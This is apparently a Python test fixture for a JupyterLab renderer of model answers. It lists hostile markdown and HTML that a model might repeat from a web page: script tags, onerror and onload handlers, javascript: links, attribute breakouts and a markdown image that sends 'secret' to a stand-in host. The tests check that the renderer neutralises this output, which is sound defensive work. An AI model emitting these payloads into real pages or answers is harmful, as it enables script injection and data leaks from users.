"""Hostile model answers: text a model may repeat from a web page or document, built to become
live markup, run script or make the browser fetch something. Shared by the renderer's unit tests
and the browser tests, which render each one in JupyterLab through every view of an answer.

Every URL points at ``PROBE`` (a host that does not exist), so a browser test can tell that
nothing was fetched from it, and every script sets ``window.__pwned``.
"""

from __future__ import annotations

PROBE = "http://probe.invalid"
JS = "window.__pwned=1"

CORPUS: dict[str, str] = {
    "escaped backticks around a tag": f"\\`<img src=x onerror={JS}>\\`",
    "html inside a code-span look-alike": f"``a`<img src=x onerror={JS}>`` and `b<b`",
    "unbalanced backticks": f"```<img src=x onerror={JS}>` text",
    "html block with handler": f'<div onmouseover="{JS}">hover</div>\n\n<p>x</p>',
    "script tag": f"<script>{JS}</script>",
    "svg with onload": f"<svg onload={JS}><circle r=9 /></svg>",
    "iframe and object": f'<iframe src="{PROBE}/frame"></iframe><object data="{PROBE}/obj">',
    "fence in a list item": f"- item\n\n  ```\n  <b>\n  ```\n<img src=x onerror={JS}>",
    "fence in a blockquote": f"> ```\n> code\n<img src=x onerror={JS}>",
    "unusual fence closer": f"~~~~\ncode\n~~~\n<img src=x onerror={JS}>\n~~~~",
    "unclosed fence": f"```html\n<img src=x onerror={JS}>",
    "backtick fence with backtick info": f"``` a`b\n<img src=x onerror={JS}>\n```",
    "entities": f"&lt;img src=x onerror={JS}&gt; &#60;script&#62; &amp;lt;b&amp;gt;",
    "autolinks": f"<{PROBE}/auto> <javascript:{JS}> <mailto:a@b.c>",
    "javascript link": f"[click](javascript:{JS}) [click2](JaVaScRiPt:{JS})",
    "data and vbscript links": "[d](data:text/html,<script>x</script>) [v](vbscript:msgbox)",
    "link with tag in text": f"[<img src=x onerror={JS}>]({PROBE}/a)",
    "markdown image": f"![exfil]({PROBE}/img?q=secret)",
    "reference image": f"![ref][r]\n\n[r]: {PROBE}/ref.png",
    "reference javascript link": f"[ref][r]\n\n[r]: javascript:{JS}",
    "image inside a link": f"[![in]({PROBE}/in.png)]({PROBE}/out)",
    "table with tags": f"| a | <img src=x onerror={JS}> |\n|---|---|\n| <b>1</b> | `<i>` |",
    "heading with tags": f"# Title <script>{JS}</script>\n\n## Sub <b>x</b>",
    "math with href": f"$\\href{{javascript:{JS}}}{{x}}$ and $$\\href{{{PROBE}/m}}{{y}}$$",
    "math with style": f"$\\style{{background:url({PROBE}/s)}}{{x}}$",
    "html comment and cdata": f"<!-- <img src=x onerror={JS}> --><![CDATA[<b>]]>",
    "style tag": f"<style>body{{background:url({PROBE}/css)}}</style>",
    "link tag and meta": f'<link rel=stylesheet href="{PROBE}/l.css"><meta http-equiv=refresh>',
    "form": f'<form action="{PROBE}/f"><input autofocus onfocus={JS}></form>',
    "attribute breakout": f'[x]({PROBE}/" onmouseover="{JS})',
    "nested emphasis and tags": f"**<i>b</i>** _<u onclick={JS}>u</u>_",
}

# What answers must still look like: rendered, not shown as source.
BENIGN = (
    "# Heading\n\nSome *emphasis*, **bold** and `code`.\n\n"
    "- one\n- two\n\n1. first\n2. second\n\n"
    "| x | y |\n|:--|--:|\n| 1 | 2 |\n\n"
    "```python\ndef f(x):\n    return x < 2\n```\n\n"
    "Inline $x^2$ and display:\n\n$$\\int_0^1 x\\,dx$$\n\n"
    "A [link](https://example.org) and prices of $5 and $6."
)
